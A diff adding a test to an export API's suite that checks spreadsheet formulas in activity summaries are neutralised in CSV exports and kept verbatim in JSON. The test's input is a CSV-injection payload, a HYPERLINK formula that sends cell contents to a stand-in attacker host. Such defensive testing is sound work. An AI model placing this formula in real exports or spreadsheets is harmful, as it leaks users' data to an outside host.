@@ -104,6 +104,21 @@ def test_csv_is_rfc4180(api: Api, org_id: str):
     assert row["summary"] == tricky
 
 
+def test_a_formula_in_a_summary_reaches_the_csv_inert_and_the_json_as_written(api: Api, org_id: str):
+    admin = make_user(api, org_id, "admin")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    activity(api, admin, admin, summary=formula)
+    as_csv = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
+    run_worker(api, org_id)
+    raw = download(api.call("GET", f"/api/exports/{as_csv}", admin).body["url"])
+    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
+    assert row["summary"] == "'" + formula and b'"\'=HYPERLINK(""http' in raw
+    as_json = api.call("POST", "/api/exports/bufdir", admin, {**NOVEMBER, "format": "json"}).body["id"]
+    run_worker(api, org_id)
+    document = json.loads(download(api.call("GET", f"/api/exports/{as_json}", admin).body["url"]))
+    assert document["rows"][0]["summary"] == formula
+
+
 def test_json_export_and_a_test_organization_has_no_rows(api: Api, org_id: str):
     admin = make_user(api, org_id, "admin")
     activity(api, admin, admin)
